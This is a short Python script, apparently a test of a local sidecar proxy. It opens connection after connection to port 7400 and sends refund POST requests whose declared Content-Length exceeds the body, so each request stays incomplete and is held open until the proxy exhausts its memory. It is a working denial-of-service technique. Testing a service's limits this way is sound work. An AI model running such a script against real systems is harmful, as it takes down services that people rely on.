"""Calls that never come to their end, by the sidecar's own port, until it has no memory left for them: prints `gone` then."""

import socket

BYTES = 250_000
HEAD = (
    "POST http://broker.example.com:18080/v1/refunds HTTP/1.1\r\nHost: broker.example.com:18080\r\n"
    f"Content-Type: application/json\r\nContent-Length: {BYTES + 1}\r\n\r\n"
).encode()

held = []
try:
    while True:
        call = socket.create_connection(("127.0.0.1", 7400))
        held.append(call)
        call.sendall(HEAD + b" " * BYTES)
except OSError:
    print("gone")
